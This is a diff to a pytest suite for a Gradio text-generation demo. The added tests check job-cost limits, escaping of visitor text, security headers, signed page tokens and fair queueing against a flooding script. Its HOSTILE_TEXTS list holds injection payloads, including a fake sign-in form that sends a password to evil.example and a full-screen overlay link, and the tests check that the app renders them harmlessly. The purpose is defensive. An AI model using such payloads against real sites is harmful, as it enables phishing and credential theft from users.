@@ -242,7 +242,7 @@ def slow_server(tiny_folder):
     generator = TextGenerator(load_model(str(tiny_folder), device="cpu", adapter=None))
     slow = SlowGenerator(generator)
     limits = Limits(max_new_tokens=16, max_batch_size=2, max_prompt_chars=3000, max_prompt_tokens=400,
-                    max_request_tokens=700, max_step_positions=200)
+                    max_request_tokens=700, max_step_positions=200, max_job_cost=250)
     demo = build_demo(lambda: generator, limits, queue_size=QUEUE_SIZE, max_queued_per_session=2,
                       serving=ServingLimits(stream_grace_s=GRACE_S))
     demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", quiet=True, **launch_options())
@@ -261,9 +261,9 @@ def api_values(base: str, **overrides) -> list:
 
 def page_client(demo):
     """A gradio_client session once the server sees its heartbeat (as a page's session)."""
-    from gradio_client import Client
+    from conftest import page_token_client
 
-    client = Client(demo.local_url, verbose=False)
+    client = page_token_client(demo.local_url)
     deadline = time.time() + 10
     while not demo.fair_queue.page_session(client.session_hash) and time.time() < deadline:
         time.sleep(0.02)
@@ -404,6 +404,7 @@ def test_the_readme_client_example_ends_on_a_refusal(slow_server):
     (dict(prompt="y" * 3001), "limit is 3000"),
     (dict(prompt="sea " * 500), "the limit is 400 tokens"),
     (dict(prompt="sea " * 340, batch_size=2), "the limit per request is 700"),
+    (dict(prompt="sea " * 240, batch_size=2), "the limit per job is 250 units"),
     (dict(target_speedup=9.0), "unreachable"),
 ])
 def test_over_limit_requests_are_refused_when_pushed_not_after_the_wait(slow_server, overrides, needle):
@@ -574,3 +575,295 @@ def test_fair_order_serves_one_job_per_client_per_round():
     assert admission(waiting, "session:w", "9.9.9.9", limits) == ("displace", flood[2])  # full: the heaviest gives way
     verdict, _ = admission(flood[:1], "api@1.2.3.4", "1.2.3.4", limits)
     assert verdict.startswith("refuse") and "share 1 waiting" in verdict
+
+
+# --- text from a visitor or a link is shown as text (issue 37: a share link drew a sign-in form) ----
+
+HOSTILE_TEXTS = [
+    '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password"></form>',
+    '<a href="http://evil.example" style="position:fixed;inset:0;background:red">continue</a>',
+    "[text](http://evil.example) ![i](http://evil.example/i.png) <http://evil.example>",
+    "http://evil.example www.evil.example mail a@evil.example",
+    "**bold** _em_ `code`\n# heading\n- item\n| a | b |\n|---|---|\n    indented",
+    "$$\\href{http://evil.example}{click}$$ &lt;b&gt; &amp; &#60;form&#62; \\*",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXTS)
+def test_visitor_text_renders_as_its_own_characters_in_markdown(text):
+    """A real CommonMark renderer (raw HTML on, as gradio's) turns the escaped text into one
+    paragraph of plain text, the same characters the visitor sent (line breaks as spaces)."""
+    import html as html_lib
+
+    from markdown_it import MarkdownIt
+
+    from app.shown_text import as_markdown
+
+    source = as_markdown(text, 1000)
+    rendered = MarkdownIt("commonmark", {"html": True}).render(source)
+    assert rendered.startswith("<p>") and rendered.count("<") == 2, rendered  # <p> and </p>, nothing else
+    shown = html_lib.unescape(rendered.removeprefix("<p>").strip().removesuffix("</p>"))
+    assert shown == "".join(ch if ch.isprintable() else " " for ch in text)
+    for trigger in ("://", "www.", "@", "$$", "[", "<"):  # what GFM's autolinks, KaTeX and markup start from
+        assert trigger not in source
+
+
+def test_visitor_text_is_capped_and_html_escaped():
+    from app.shown_text import as_html, as_markdown, capped
+
+    assert capped("x" * 500, 10) == "x" * 9 + "…" and capped("short", 10) == "short"
+    assert as_html('<b title="x">&</b>', 100) == "&lt;b title=&quot;x&quot;&gt;&amp;&lt;/b&gt;"
+    assert len(as_html("<" * 1000, 50)) <= 4 * 49 + 1
+    assert "<" not in as_markdown("<" * 1000, 50) and as_markdown("<" * 1000, 50).endswith("…")
+
+
+def test_a_link_with_many_long_names_gets_a_short_message():
+    from app.share import settings_from_query
+
+    query = {f"<form><input name='{i}'>" + "x" * 300: "1" for i in range(50)} | {"decay": "<b>" + "y" * 5000}
+    values, message = settings_from_query(query, LIMITS, {"decay": "linear", "target_speedup": 2.0})
+    assert values == {} and len(message) <= 600 and "and 45 more" in message and "decay must be one of" in message
+
+
+@pytest.mark.server
+def test_pages_carry_a_nonced_csp_and_every_response_the_security_headers(slow_server):
+    import httpx
+
+    demo, _ = slow_server
+    base = demo.local_url.rstrip("/")
+    pages = [httpx.get(base + "/", timeout=30) for _ in range(2)]
+    nonces = []
+    for page in pages:
+        policy = page.headers["content-security-policy"]
+        nonce = re.search(r"'nonce-([A-Za-z0-9_-]{20,})'", policy).group(1)
+        nonces.append(nonce)
+        for directive in ("default-src 'self'", "form-action 'self'", "base-uri 'self'", "object-src 'none'",
+                          "connect-src 'self'"):
+            assert directive in policy, policy
+        assert "script-src 'self' 'nonce-" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
+        scripts = re.findall(r"<script\b[^>]*>", page.text)
+        assert scripts and all(f'nonce="{nonce}"' in tag for tag in scripts), scripts
+    assert nonces[0] != nonces[1]  # a fresh nonce per response
+    refused = httpx.post(base + "/gradio_api/queue/join", content=b"{not json", timeout=30)
+    info = httpx.get(base + "/gradio_api/info", timeout=30)
+    for response in (*pages, refused, info):
+        assert response.headers["x-content-type-options"] == "nosniff"
+        assert response.headers["referrer-policy"] == "no-referrer"
+    assert refused.status_code == 400 and "content-security-policy" not in info.headers
+
+
+# --- the smaller items of issue 37: a message, not a 500, from every page endpoint ---------------------
+
+
+def page_data(demo, api_name: str, **overrides) -> tuple[int, list]:
+    """(fn_index, values) of a page event: each input's value on a fresh page, with ``overrides`` by
+    setting name (a control's elem_id is "setting-<name>")."""
+    index, fn = next((i, fn) for i, fn in demo.fns.items() if fn.api_name == api_name)
+    values = []
+    for component in fn.inputs:
+        name = (getattr(component, "elem_id", None) or "").removeprefix("setting-").replace("-", "_")
+        values.append(overrides.get(name, component.value))
+    return index, values
+
+
+@pytest.mark.server
+def test_a_nan_seed_on_the_page_endpoints_is_a_4xx_naming_the_seed(slow_server):
+    import httpx
+
+    demo, _ = slow_server
+    base = demo.local_url.rstrip("/") + "/gradio_api"
+    for api_name, route in (("ui_generate", "queue/join"), ("ui_step", "queue/join"), ("ui_share", "run/predict")):
+        for bad in (float("nan"), float("inf")):
+            index, data = page_data(demo, api_name, seed=bad, max_new_tokens=16)
+            body = json.dumps({"data": data, "fn_index": index, "session_hash": "nanseed1"})  # NaN, Infinity
+            response = httpx.post(f"{base}/{route}", content=body, headers={"content-type": "application/json"})
+            assert response.status_code == 422, (api_name, response.status_code, response.text[:300])
+            assert "(seed) must be a finite number" in response.json()["detail"], response.text
+
+
+@pytest.mark.server
+def test_sharing_a_long_non_ascii_prompt_gives_the_link_and_says_it_is_too_long_for_a_qr_code(slow_server):
+    import httpx
+
+    demo, _ = slow_server
+    base = demo.local_url.rstrip("/") + "/gradio_api"
+    index, data = page_data(demo, "ui_share", prompt="光合作用" * 160, max_new_tokens=16)  # 640 chars, 5,760 escaped
+    data[0] = demo.local_url
+    response = httpx.post(f"{base}/run/predict", json={"data": data, "fn_index": index, "session_hash": "share1"},
+                          timeout=30)
+    assert response.status_code == 200, response.text[:300]
+    link, qr = response.json()["data"][:2]
+    assert link.startswith(demo.local_url) and len(link) > 5000
+    assert "too long for a QR code" in qr and "<svg" not in qr
+
+
+@pytest.mark.server
+def test_an_unknown_order_is_refused_naming_order(slow_server):
+    import httpx
+
+    from app.handlers import parameter_named
+
+    assert parameter_named("order must be one of warmup_top, first_last, ranked; got 'random'") == "order"
+    assert parameter_named("the prompt is 500 tokens; the limit is 400 tokens") == "prompt"
+    demo, _ = slow_server
+    base = demo.local_url.rstrip("/")
+    response = httpx.post(f"{base}/gradio_api/call/generate",
+                          json={"data": api_values(base, **(JOB | dict(order="random")))}, timeout=30)
+    assert response.status_code == 422 and "order must be one of" in response.text, response.text
+    assert [item["parameter_name"] for item in response.json()["detail"]] == ["order"], response.text
+
+
+def test_the_job_cost_admits_the_page_and_its_lessons_and_refuses_the_lane_hogs():
+    """Units of ~13 ms (a batch-1 step of both streams on a quiet 2-core CPU): the page's default run
+    and every lesson fit the default bound with room to spare; the issue's 67-98 s job does not."""
+    from app.job_cost import job_cost
+
+    limit = Limits().max_job_cost
+    admitted = {"the page's default": job_cost(1, 34, 48, False), "lesson: batch 4": job_cost(4, 37, 48, False),
+                "lesson: the lens": job_cost(1, 34, 48, True), "batch 8 x 48": job_cost(8, 42, 48, False),
+                "256 new tokens": job_cost(1, 34, 256, False), "a 500-token prompt": job_cost(1, 500, 48, False)}
+    assert max(admitted.values()) <= 0.8 * limit, admitted
+    refused = {"the issue's job": job_cost(8, 768, 256, True), "batch 8 x 256": job_cost(8, 42, 256, False),
+               "256 with the lens": job_cost(1, 34, 256, True), "a 2000-token prompt": job_cost(1, 2000, 16, False)}
+    assert min(refused.values()) > limit and job_cost(8, 768, 256, True) > 8 * limit, refused
+
+
+# --- a client is what a script cannot multiply for free (issue 37 items 2 and 4) ------------------------
+
+
+def test_a_page_token_is_signed_single_use_and_expires():
+    from app.page_tokens import PageTokens, cookie_header, token_in
+
+    tokens = PageTokens(ttl_s=60)
+    token = tokens.issue(now=1000)
+    assert tokens.claim(token, now=1010) and not tokens.claim(token, now=1011)  # single use
+    assert not tokens.claim(tokens.issue(now=1000), now=1100)  # expired
+    at, nonce, signature = tokens.issue(now=1000).split(".")
+    assert not tokens.claim(f"{at}.{nonce}x.{signature}", now=1001) and not tokens.claim("1000.a.b", now=1001)
+    assert not PageTokens().claim(tokens.issue(now=1000), now=1001)  # another server's key
+    assert not tokens.claim(None) and not tokens.claim("") and not tokens.claim("x" * 10_000)
+    fresh = tokens.issue()
+    assert token_in(cookie_header(fresh, secure=False).decode().split(";")[0]) == fresh
+    assert b"Partitioned" in cookie_header(fresh, secure=True) and b"HttpOnly" in cookie_header(fresh, secure=False)
+
+
+def test_one_address_takes_at_most_its_places_in_a_round():
+    from app.fair_queue import Rounds
+
+    rounds = Rounds(places_per_address=2)
+    script = [rounds.assign(f"session:{i}", "10.0.0.1") for i in range(6)]  # six page loads of one script
+    assert script == [0, 0, 1, 1, 2, 2]
+    assert rounds.assign("session:v", "10.0.0.2") == 0  # another address still gets the first round
+
+
+@pytest.mark.server
+def test_invented_heartbeat_sessions_count_as_one_client(slow_server):
+    """A script on 127.0.0.1 invents 16 session ids and holds each one's heartbeat open (no page
+    load, so no page token), then floods jobs from all of them; a visitor who loaded the page from
+    127.0.0.2 waits for at most the running job plus one job of the script's one pooled client."""
+    import httpx
+
+    demo, _ = slow_server
+    base = demo.local_url.rstrip("/")
+    wait_idle(demo)
+    alone = page_client(demo).submit(**JOB, api_name="/generate")
+    started = time.time()
+    alone.result(timeout=60)
+    job_s = time.time() - started
+    fn_index = next(i for i, fn in demo.fns.items() if fn.api_name == "generate")
+    data = api_values(base, **JOB)
+    stop, tally = threading.Event(), collections.Counter()
+    sessions = [f"invented{i:02d}" for i in range(16)]
+
+    def read(url: str, http: httpx.Client) -> None:
+        try:
+            with http.stream("GET", url) as response:
+                for _ in response.iter_lines():
+                    if stop.is_set():
+                        return
+        except httpx.HTTPError:  # the client was closed under it at the end of the test
+            return
+
+    def background(url: str, http: httpx.Client) -> None:
+        threading.Thread(target=read, args=(url, http), daemon=True).start()
+
+    script = httpx.Client(base_url=base, timeout=httpx.Timeout(30, read=120),
+                          limits=httpx.Limits(max_connections=200))
+    for session in sessions:
+        background(f"{base}/gradio_api/heartbeat/{session}", script)
+    deadline = time.time() + 10
+    while not all(demo.fair_queue.heartbeat_open(s) for s in sessions) and time.time() < deadline:
+        time.sleep(0.05)
+    assert not any(demo.fair_queue.page_session(s) for s in sessions)  # open heartbeats, but no page load
+
+    def flood() -> None:
+        for _ in range(20):  # bounded in count (16 x 20 pushes) and in time (until the visitor is served)
+            for session in sessions:
+                if stop.is_set():
+                    return
+                response = script.post("/gradio_api/queue/join",
+                                       json={"data": data, "fn_index": fn_index, "session_hash": session})
+                tally[response.status_code] += 1
+                if response.status_code == 200:
+                    background(f"{base}/gradio_api/queue/data?session_hash={session}", script)
+            time.sleep(0.05)
+
+    visitor = httpx.Client(base_url=base, timeout=httpx.Timeout(30, read=120),
+                           transport=httpx.HTTPTransport(local_address="127.0.0.2"))
+    flooder = threading.Thread(target=flood, daemon=True)
+    flooder.start()
+    try:
+        time.sleep(2 * job_s)  # the flood is in full swing
+        assert visitor.get("/").status_code == 200  # the page load sets the page token
+        background(f"{base}/gradio_api/heartbeat/visitor01", visitor)
+        deadline = time.time() + 10
+        while not demo.fair_queue.page_session("visitor01") and time.time() < deadline:
+            time.sleep(0.02)
+        assert demo.fair_queue.page_session("visitor01")
+        pushed = time.time()
+        joined = visitor.post("/gradio_api/queue/join",
+                              json={"data": data, "fn_index": fn_index, "session_hash": "visitor01"})
+        assert joined.status_code == 200, joined.text
+        waited = None
+        with visitor.stream("GET", "/gradio_api/queue/data?session_hash=visitor01") as response:
+            for line in response.iter_lines():
+                if "process_generating" in line or "process_completed" in line:
+                    waited = time.time() - pushed
+                    break
+                if time.time() - pushed > 60:
+                    break
+    finally:
+        stop.set()
+        flooder.join(30)
+    clients = demo.fair_queue.waiting_by_client()
+    assert not any(key.startswith("session:invented") for key in clients), clients
+    assert tally[200] >= 1 and sum(tally.values()) > tally[200], tally  # the flood ran and was mostly refused
+    # ahead of the visitor: the running job and one job of the script's pooled client (was: ~10)
+    assert waited is not None and waited < 3 * job_s + 1.0, (waited, job_s, tally)
+    script.close()
+    visitor.close()
+    wait_idle(demo, 60)
+
+
+def test_step_sessions_are_bounded_per_address_and_in_bytes():
+    """A script's step sessions evict its own oldest ones, never a visitor's; memory is bounded in
+    bytes (a lens session's hidden states count, not only its KV positions)."""
+    from types import SimpleNamespace
+
+    from app.job_cost import kv_bytes_per_position, session_bytes
+    from app.sessions import StepSessions
+
+    sessions = StepSessions(max_sessions=16, max_positions=10**6, max_bytes=1000, per_owner=4)
+    sessions.put("visitor", ("settings", iter(()), "renderer"), positions=10, owner="10.0.0.2", nbytes=100)
+    for i in range(16):  # one script's 16 sessions from one address
+        sessions.put(f"script{i}", ("settings", iter(()), "renderer"), positions=10, owner="10.0.0.1", nbytes=50)
+    assert sessions.get("visitor") is not None and len(sessions) == 5  # the visitor and the script's last 4
+    assert sessions.get("script15") is not None and sessions.get("script0") is None
+    sessions.put("big", ("settings", iter(()), "renderer"), positions=10, owner="10.0.0.3", nbytes=800)
+    assert sessions.nbytes() <= 1000 and sessions.get("big") is not None  # the least recently used made room
+    with pytest.raises(ValueError, match="the limit is 0 MB"):
+        sessions.put("huge", ("settings", iter(()), "renderer"), owner="10.0.0.4", nbytes=1001)
+    smollm = SimpleNamespace(num_hidden_layers=30, hidden_size=576, num_attention_heads=9, num_key_value_heads=3)
+    assert kv_bytes_per_position(smollm) == 2 * 30 * 3 * 64 * 4
+    # the issue's 700-token session with the lens: tens of MB of KV plus the lens's hidden states
+    assert 50 * 2**20 < session_bytes(smollm, 2 * 700, 256, True) < 200 * 2**20
